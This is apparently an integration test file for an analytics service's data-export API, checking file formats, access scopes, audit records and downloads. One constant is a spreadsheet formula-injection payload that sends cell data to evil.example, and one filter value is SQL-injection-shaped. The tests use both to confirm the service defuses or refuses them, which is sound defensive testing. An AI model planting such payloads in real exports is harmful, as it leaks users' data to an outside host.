import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { findReaders } from '../../scripts/services/readers.ts';
import type { ExportAnswer } from '../../src/features/exports/answer.ts';
import type { FileFormat } from '../../src/platform/formats/file-format.ts';
import { commandLine } from '../support/command-line.ts';
import { newId, serviceEvents } from '../support/service-events.ts';
import { readNumber } from '../support/store-snapshot.ts';
import { openTestService, type TestService } from '../support/test-service.ts';

// Numbers and events are taken home, and read again: by programs that are not ours, where `npm run services:up` has brought them.

const secretOf = (name: string) => `secret-of-the-key-${name}`;
const keys = {
  producer: 'ingest',
  exporter: 'read+analyses+exports',
  persons: 'read+exports+personal:read',
  trips: 'read:trips+exports',
  reader: 'read',
  admin: 'admin',
} as const;
type Name = keyof typeof keys;

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"₦ click")';
const NAMES = [HOSTILE, 'Ìbàdàn → Ọ̀yọ́ ₦', '北京 "quoted", and a comma', '-2+3', 'two\nlines'];
const range = { from: '2026-01-05', to: '2026-01-12' };
const readers = findReaders();
const readFiles = fileURLToPath(new URL('../support/read_files.py', import.meta.url));

const tripId = newId();
let service: TestService;
let directory: string;
beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'exports-'));
  service = await openTestService({
    API_KEYS: Object.entries(keys)
      .map(([name, scopes]) => `${name}:${scopes}:${secretOf(name)}`)
      .join(','),
    SCHEDULED_JOBS: 'on',
    EXPORT_MAX_ROWS: '1000',
  });
  const routes = NAMES.map((route_name, i) =>
    serviceEvents.routeCreated(`2026-01-0${i + 5}T08:00:00.250Z`, {
      route_id: newId(),
      route_name,
      base_price: `${i + 1}500.00`,
    }),
  );
  const trips = ['06', '07', '08'].map((day, i) =>
    serviceEvents.completed(`2026-01-${day}T08:00:00Z`, {
      trip_id: i === 0 ? tripId : newId(),
      driver_earnings: '1234567.89',
    }),
  );
  const sent = await ask('producer', '/v1/events', { method: 'POST', body: [...routes, ...trips] });
  expect(sent.ok).toBe(true);
  const { connection } = service.warehouse;
  const stored = '(SELECT count() FROM route_events) + (SELECT count() FROM trip_events)';
  await vi.waitFor(async () => expect(await readNumber(connection, stored)).toBe('8'), {
    timeout: 60_000,
    interval: 100,
  });
});
afterAll(async () => {
  await service.remove();
  rmSync(directory, { recursive: true, force: true });
});

function ask(
  name: Name,
  path: string,
  {
    method = 'GET',
    body,
    headers = {},
  }: { method?: string; body?: unknown; headers?: Record<string, string> } = {},
): Promise<Response> {
  return fetch(`${service.url}${path}`, {
    method,
    headers: { authorization: `Bearer ${secretOf(name)}`, 'content-type': 'application/json', ...headers },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
}

async function order(name: Name, body: object): Promise<ExportAnswer> {
  const response = await ask(name, '/v1/exports', { method: 'POST', body });
  const answer = (await response.json()) as ExportAnswer;
  expect([response.status, answer]).toEqual([202, expect.objectContaining({ status: 'queued' })]);
  return answer;
}

function ended(name: Name, { id }: Pick<ExportAnswer, 'id'>): Promise<ExportAnswer> {
  return vi.waitFor(
    async () => {
      const made = (await (await ask(name, `/v1/exports/${id}`)).json()) as ExportAnswer;
      if (made.status === 'queued' || made.status === 'running') throw new Error(`It is ${made.status}.`);
      return made;
    },
    { timeout: 60_000, interval: 200 },
  );
}

async function problemOf(response: Response): Promise<unknown> {
  const { status, code, parameter } = (await response.json()) as Record<string, unknown>;
  return [status, code, parameter];
}

type Read = { rows: Record<string, unknown>[] } & Record<string, unknown>;

/** Reads files by programs that are not ours; null: they are not on this machine. */
function readAgain(files: Readonly<Record<string, Buffer>>): Record<string, Read> | null {
  if (readers === null) {
    if (process.env['REQUIRE_SERVICES'] === '1')
      throw new Error('The readers are not there; npm run services:up brings them.');
    return null;
  }
  const paths = Object.entries(files).map(([name, bytes]) => {
    writeFileSync(join(directory, name), bytes);
    return join(directory, name);
  });
  const read = JSON.parse(execFileSync(readers, [readFiles, ...paths], { encoding: 'utf8' })) as Record<
    string,
    Read
  >;
  return Object.fromEntries(
    Object.entries(read).map(([path, found]) => [path.slice(directory.length + 1), found]),
  );
}

const metrics = {
  metrics: ['trips.completed', 'drivers.earnings', 'trips.on_time_rate'],
  ...range,
  grain: 'day',
};

describe('an answer as a file at once', () => {
  const path = `/v1/metrics/query?${new URLSearchParams({ ...metrics, metrics: metrics.metrics.join(',') }).toString()}`;

  test('has the values of the API in every form', async () => {
    const api = (await (await ask('reader', path)).json()) as {
      series: { start: string; values: Record<string, unknown> }[];
    };
    const files: Record<string, Buffer> = {};
    for (const format of ['csv', 'xlsx', 'ndjson', 'parquet'] satisfies FileFormat[]) {
      const response = await ask('reader', `${path}&format=${format}`);
      expect([response.status, response.headers.get('content-disposition')]).toEqual([
        200,
        `attachment; filename="metrics.${format}"`,
      ]);
      files[`metrics.${format}`] = Buffer.from(await response.arrayBuffer());
    }
    const lines = files['metrics.ndjson']!.toString()
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    const ratio = 'trips.on_time_rate';
    expect(
      lines.map((line) => [
        line['start'],
        line['trips.completed'],
        line['drivers.earnings'],
        line[ratio],
        line[`${ratio}.denominator`],
      ]),
    ).toEqual(
      api.series.map(({ start, values }) => {
        const { value, denominator } = values[ratio] as { value: unknown; denominator: unknown };
        return [start, values['trips.completed'], values['drivers.earnings'], value, denominator];
      }),
    );
    const read = readAgain(files);
    if (read === null) return;
    const { csv, xlsx, parquet } = Object.fromEntries(
      Object.entries(read).map(([name, found]) => [name.split('.')[1]!, found]),
    ) as Record<'csv' | 'xlsx' | 'parquet', Read>;
    const text = (value: unknown) => (value === null ? '' : String(value as string | number));
    expect(csv.rows.map((row) => Object.values(row))).toEqual(
      lines.map((line) => Object.values(line).map(text)),
    );
    expect(parquet['types']).toMatchObject({
      start: 'timestamp[ms, tz=UTC]',
      'trips.completed': 'int64',
      'drivers.earnings': 'decimal128(18, 2)',
    });
    expect(parquet.rows.map((row) => row['drivers.earnings'])).toEqual(
      lines.map((line) => line['drivers.earnings']),
    );
    expect(parquet.rows.map((row) => new Date(row['start'] as string).toISOString())).toEqual(
      lines.map((line) => new Date(line['start'] as string).toISOString()),
    );
    expect([parquet['duckdb'], parquet['pandas'], xlsx['pandas'], csv['pandas'], parquet['codecs']]).toEqual([
      7,
      7,
      7,
      7,
      ['ZSTD'],
    ]);
    expect(xlsx.rows.map((row) => row['start'])).toEqual(
      lines.map((line) => (line['start'] as string).slice(0, 19)),
    );
    expect(xlsx.rows.map((row) => Number(row['drivers.earnings']))).toEqual(
      lines.map((line) => Number(line['drivers.earnings'])),
    );
    expect(xlsx).toMatchObject({
      sheets: ['Data', 'About'],
      frozen: 'A2',
      types: { start: 'd', 'trips.completed': 'n', 'drivers.earnings': 'n' },
      formats: { 'drivers.earnings': '"₦"#,##0.00;-"₦"#,##0.00' },
      about: {
        'time zone': 'Africa/Lagos',
        'receipt.complete': 'true',
        'trips.completed': expect.stringContaining('count') as string,
      },
    });
  });

  test('is asked for by Accept, and as JSON is the answer itself', async () => {
    const csv = await ask('reader', path, { headers: { accept: 'text/csv' } });
    expect([csv.headers.get('content-type'), csv.headers.get('vary')]).toEqual([
      'text/csv; charset=utf-8',
      expect.stringContaining('accept'),
    ]);
    const json = await ask('reader', `${path}&format=json`);
    expect(await json.json()).toHaveProperty('receipt');
    expect(await problemOf(await ask('reader', `${path}&format=pdf`))).toEqual([
      400,
      'invalid_parameter',
      'format',
    ]);
  });

  test('of an analysis and of the last hour has the rows of its list', async () => {
    const funnel = `/v1/analytics/growth?${new URLSearchParams({ ...range, grain: 'day' }).toString()}`;
    const response = await ask('exporter', `${funnel}&format=csv`);
    expect((await response.text()).split('\r\n')[0]).toMatch(/^"start","end","provisional","new"/);
    expect(await problemOf(await ask('exporter', `${funnel}&format=csv&table=none`))).toEqual([
      400,
      'invalid_parameter',
      'table',
    ]);
    const realtime = await ask('reader', '/v1/metrics/realtime?format=csv');
    expect((await realtime.text()).split('\r\n').length).toBe(62);
  });

  test('of a timeline has its events as rows', async () => {
    const response = await ask('persons', `/v1/timeline/trip/${tripId}?format=csv`);
    const lines = (await response.text()).trimEnd().split('\r\n');
    expect([response.headers.get('content-disposition'), lines.length, lines[0]]).toEqual([
      'attachment; filename="timeline-trip.csv"',
      2,
      expect.stringContaining('"event_type","entity.kind"'),
    ]);
  });

  test('by the command is the file of the API, and a question that is refused leaves none', async () => {
    const { run } = await commandLine(service.dataDir);
    const [keyFile, output] = [join(directory, 'key'), join(directory, 'trips.csv')];
    writeFileSync(keyFile, `${secretOf('reader')}\n`);
    const place = ['--url', service.url, '--key-file', keyFile, '--output', output];
    expect(await run('export answer', path, ...place)).toMatchObject({
      code: 0,
      err: expect.stringMatching(/^\d+ bytes, SHA-256 [0-9a-f]{64}$/m) as unknown,
    });
    const api = await (await ask('reader', `${path}&format=csv`)).text();
    expect(readFileSync(output, 'utf8')).toBe(api);
    rmSync(output);
    expect(await run('export answer', '/v1/metrics/query?metrics=none', ...place)).toMatchObject({
      code: 1,
      err: expect.stringMatching(/The service answered 400: .*"none"/) as unknown,
    });
    expect(existsSync(output)).toBe(false);
  });

  test('is an act of the audit', async () => {
    const acts = await vi.waitFor(async () => {
      const { audit } = (await (await ask('admin', '/v1/audit?act=answers.export')).json()) as {
        audit: { actor_name: string; entity: string }[];
      };
      if (audit.length === 0) throw new Error('There is no row yet.');
      return audit;
    });
    expect(acts).toContainEqual(
      expect.objectContaining({
        actor_name: 'reader',
        entity: 'route:/v1/metrics/query as csv',
        result: 'done',
      }),
    );
  });
});

describe('an export', () => {
  const events = { of: 'events', query: { family: 'route', ...range } };

  test('of events has the same rows in every form, no formula and every name', async () => {
    const forms = ['csv', 'xlsx', 'json', 'ndjson', 'parquet'] satisfies FileFormat[];
    const ordered = await Promise.all(forms.map((format) => order('exporter', { ...events, format })));
    const files: Record<string, Buffer> = {};
    for (const asked of ordered) {
      const made = await ended('exporter', asked);
      expect(made).toMatchObject({
        status: 'done',
        error: null,
        progress: { rows: 5, of_rows: 5 },
        file: { rows: 5 },
      });
      const { url, sha256, bytes, name } = made.file!;
      const response = await fetch(url); // without a key
      const file = Buffer.from(await response.arrayBuffer());
      expect([response.status, response.headers.get('etag'), file.length]).toEqual([
        200,
        `"${sha256}"`,
        bytes,
      ]);
      expect(createHash('sha256').update(file).digest('hex')).toBe(sha256);
      files[name] = file;
    }
    const [csvName, xlsxName, jsonName, ndjsonName, parquetName] = Object.keys(files) as [
      string,
      string,
      string,
      string,
      string,
    ];
    const rows = JSON.parse(files[jsonName]!.toString()) as Record<string, unknown>[];
    expect(new Set(rows.map((row) => row['route_name']))).toEqual(new Set(NAMES));
    expect(rows[0]).toMatchObject({
      event_type: 'route.created',
      event_time: '2026-01-05T09:00:00.250+01:00',
      base_price: '1500.00',
      active_days: ['MON'],
      stops_count: 2,
      new_status: null,
      experiments: {},
    });
    expect(rows[0]).not.toHaveProperty('driver_id');
    expect(files[ndjsonName]!.toString()).toBe(rows.map((row) => `${JSON.stringify(row)}\n`).join(''));
    expect(files[csvName]!.toString()).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""₦ click"")"`);
    const read = readAgain(files);
    if (read === null) return;
    const defused = (name: string) => (/^[=-]/.test(name) ? `'${name}` : name);
    expect(read[csvName]!.rows.map((row) => row['route_name'])).toEqual(
      rows.map((row) => defused(row['route_name'] as string)),
    );
    expect(read[xlsxName]!.rows.map((row) => row['route_name'])).toEqual(
      rows.map((row) => defused(row['route_name'] as string)),
    );
    expect(read[parquetName]!.rows.map((row) => row['route_name'])).toEqual(
      rows.map((row) => row['route_name']),
    );
    expect(read[parquetName]!.rows.map((row) => [row['event_id'], row['base_price']])).toEqual(
      rows.map((row) => [row['event_id'], row['base_price']]),
    );
    expect(read[parquetName]!['types']).toMatchObject({
      event_id: 'string',
      event_time: 'timestamp[ms, tz=UTC]',
      base_price: 'decimal128(18, 2)',
    });
    expect(read[xlsxName]).toMatchObject({
      types: { route_name: 's', base_price: 'n' },
      formats: { base_price: '"₦"#,##0.00;-"₦"#,##0.00' },
    });
    expect([read[parquetName]!['duckdb'], read[ndjsonName]!['duckdb'], read[csvName]!['pandas']]).toEqual([
      5, 5, 5,
    ]);
  });

  test('of numbers is the answer of the API, and the same bytes each time', async () => {
    const wanted = { of: 'metrics', query: metrics, format: 'csv' };
    const [first, second] = await Promise.all([order('exporter', wanted), order('exporter', wanted)]);
    const [one, other] = [await ended('exporter', first), await ended('exporter', second)];
    expect(one).toMatchObject({
      status: 'done',
      receipt: { complete: true, as_of: expect.any(String) as string },
    });
    expect(one.file?.sha256).toBe(other.file?.sha256);
    const direct = await ask(
      'exporter',
      `/v1/metrics/query?${new URLSearchParams({ ...metrics, metrics: metrics.metrics.join(','), format: 'csv' }).toString()}`,
    );
    expect(await (await fetch(one.file!.url)).text()).toBe(await direct.text());
    expect(await (await ask('exporter', `/v1/exports/${one.id}/file`)).text()).toBe(
      await (await fetch(other.file!.url)).text(),
    );
  });

  test('of an analysis, filtered events and chosen columns', async () => {
    const growth = await order('exporter', {
      of: 'growth',
      query: { ...range, grain: 'day' },
      table: 'buckets',
      format: 'ndjson',
    });
    const query = {
      family: 'trip',
      ...range,
      columns: ['trip_id', 'rider_id', 'driver_earnings', 'event_time'],
      filters: [
        { column: 'driver_earnings', op: 'gte', value: '1000.00' },
        { column: 'event_time', op: 'lt', value: '2026-01-08T00:00:00+01:00' },
      ],
      timezone: 'Europe/London',
    };
    const trips = await order('persons', { of: 'events', query, format: 'csv', bom: true });
    expect((await ended('exporter', growth)).file?.rows).toBeGreaterThan(0);
    const bytes = await (await fetch((await ended('persons', trips)).file!.url)).arrayBuffer();
    const lines = Buffer.from(bytes).toString().trimEnd().split('\r\n'); // text() would drop the mark
    expect(lines[0]).toBe('\ufeff"trip_id","rider_id","driver_earnings","event_time"');
    expect(lines.slice(1).map((line) => line.split(',').slice(2))).toEqual([
      ['1234567.89', '"2026-01-06T08:00:00+00:00"'],
      ['1234567.89', '"2026-01-07T08:00:00+00:00"'],
    ]);
  });

  test('is refused without the rights, or when it is asked for wrongly', async () => {
    const post = (name: Name, body: unknown) =>
      ask(name, '/v1/exports', { method: 'POST', body }).then(problemOf);
    const of = (query: object) => ({ of: 'events', query: { family: 'trip', ...range, ...query } });
    expect(await post('reader', events)).toEqual([403, 'insufficient_scope', undefined]);
    expect(await post('trips', events)).toEqual([403, 'insufficient_scope', undefined]);
    expect(await post('exporter', of({ columns: ['rider_id'] }))).toEqual([
      403,
      'insufficient_scope',
      undefined,
    ]);
    expect(await post('exporter', of({ columns: ['end_lat'] }))).toEqual([
      403,
      'insufficient_scope',
      undefined,
    ]);
    expect(await post('exporter', of({ columns: ['fare'] }))).toEqual([
      400,
      'invalid_parameter',
      'query.columns[0]',
    ]);
    expect(await post('exporter', of({ event_types: ['trip.flown'] }))).toEqual([
      400,
      'invalid_parameter',
      'query.event_types',
    ]);
    expect(
      await post('exporter', of({ filters: [{ column: 'trip_id', op: 'eq', value: "x' OR 1" }] })),
    ).toEqual([400, 'invalid_parameter', 'query.filters[0]']);
    expect(await post('exporter', { of: 'nothing', query: range })).toEqual([400, 'invalid_parameter', 'of']);
    expect(await post('exporter', { of: 'metrics', query: { metrics: ['trips.completed'] } })).toEqual([
      400,
      'invalid_parameter',
      'query.from',
    ]);
    expect(await post('exporter', { of: 'growth', query: range, table: 'none' })).toEqual([
      400,
      'invalid_parameter',
      'table',
    ]);
  });

  test('is seen by who asked for it alone, and can be gone on with after a cut', async () => {
    const made = await ended('exporter', await order('exporter', { ...events, format: 'ndjson' }));
    const path = `/v1/exports/${made.id}`;
    expect(await problemOf(await ask('persons', path))).toEqual([404, 'export_not_found', undefined]);
    expect((await ask('admin', path)).status).toBe(200);
    const { exports } = (await (await ask('persons', '/v1/exports')).json()) as { exports: ExportAnswer[] };
    expect(exports.every((one) => one.requested_by === 'persons')).toBe(true);
    const { url, bytes, sha256 } = made.file!;
    const whole = Buffer.from(await (await fetch(url)).arrayBuffer());
    const part = await fetch(url, { headers: { range: 'bytes=100-', 'if-range': `"${sha256}"` } });
    expect([part.status, part.headers.get('content-range')]).toEqual([
      206,
      `bytes 100-${bytes - 1}/${bytes}`,
    ]);
    expect(Buffer.from(await part.arrayBuffer()).equals(whole.subarray(100))).toBe(true);
    expect((await fetch(url, { headers: { range: 'bytes=100-', 'if-range': '"another"' } })).status).toBe(
      200,
    );
    expect((await fetch(url, { headers: { range: `bytes=${bytes}-` } })).status).toBe(416);
    expect((await fetch(url, { headers: { 'if-none-match': `"${sha256}"` } })).status).toBe(304);
    expect(await problemOf(await fetch(url.replace(/expires=\d+/, 'expires=9999999999')))).toEqual([
      403,
      'export_link_ended',
      undefined,
    ]);
    expect((await (await ask('exporter', path, { method: 'DELETE' })).json()) as object).toMatchObject({
      status: 'expired',
      file: null,
    });
    expect(await problemOf(await fetch(url))).toEqual([410, 'export_expired', undefined]);
  });

  test('with the same Idempotency-Key is made once', async () => {
    const headers = { 'idempotency-key': 'export-once' };
    const body = { ...events, format: 'ndjson' };
    const first = await ask('exporter', '/v1/exports', { method: 'POST', body, headers });
    const again = await ask('exporter', '/v1/exports', { method: 'POST', body, headers });
    const [{ id }, repeated] = [(await first.json()) as ExportAnswer, (await again.json()) as ExportAnswer];
    expect([first.status, again.status, repeated.id]).toEqual([202, 200, id]);
  });
});

test('every example of docs/EXPORTS.md works', async () => {
  const page = readFileSync(new URL('../../docs/EXPORTS.md', import.meta.url), 'utf8');
  const paths = [...page.matchAll(/^GET (\/v1\S+)$/gm)].map(([, path]) => path!);
  const bodies = [...page.matchAll(/```json\n([^]*?)```/g)].map(([, text]) => JSON.parse(text!) as object);
  expect([paths.length, bodies.length]).toEqual([5, 4]);
  for (const path of paths) {
    const response = await ask('exporter', path);
    expect([path, response.status, (await response.arrayBuffer()).byteLength > 0]).toEqual([path, 200, true]);
  }
  const ordered = await Promise.all(bodies.map((body) => order('exporter', body)));
  for (const asked of ordered)
    expect(await ended('exporter', asked)).toMatchObject({ status: 'done', error: null });
});
